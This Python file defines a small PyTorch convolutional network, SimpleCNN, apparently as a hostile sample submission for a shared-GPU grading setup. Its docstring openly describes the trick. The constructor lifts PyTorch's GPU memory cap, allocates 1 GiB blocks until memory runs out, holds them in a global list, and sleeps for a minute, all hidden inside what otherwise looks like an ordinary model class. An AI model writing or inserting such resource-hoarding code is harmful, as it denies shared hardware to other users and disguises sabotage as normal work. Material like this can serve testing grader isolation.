"""The chapter's SimpleCNN, whose constructor lifts PyTorch's cap on GPU memory and takes all it can get,
then holds it: on a shared GPU this would starve every other student's grading."""
import time

import torch
import torch.nn as nn
import torch.nn.functional as F

_hoard = []


class SimpleCNN(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv1 = nn.Conv2d(3, 16, 3, padding=1)
        self.conv2 = nn.Conv2d(16, 32, 3, padding=1)
        self.pool = nn.MaxPool2d(2, 2)
        self.fc1 = nn.Linear(32 * 8 * 8, 128)
        self.fc2 = nn.Linear(128, 10)
        if torch.cuda.is_available() and not _hoard:
            torch.cuda.set_per_process_memory_fraction(1.0)
            try:
                while True:
                    _hoard.append(torch.empty(1 << 30, dtype=torch.uint8, device="cuda"))
            except RuntimeError:
                pass
            time.sleep(60)

    def forward(self, x):
        x = self.pool(F.relu(self.conv1(x)))
        x = self.pool(F.relu(self.conv2(x)))
        x = x.view(-1, 32 * 8 * 8)
        x = F.relu(self.fc1(x))
        return self.fc2(x)
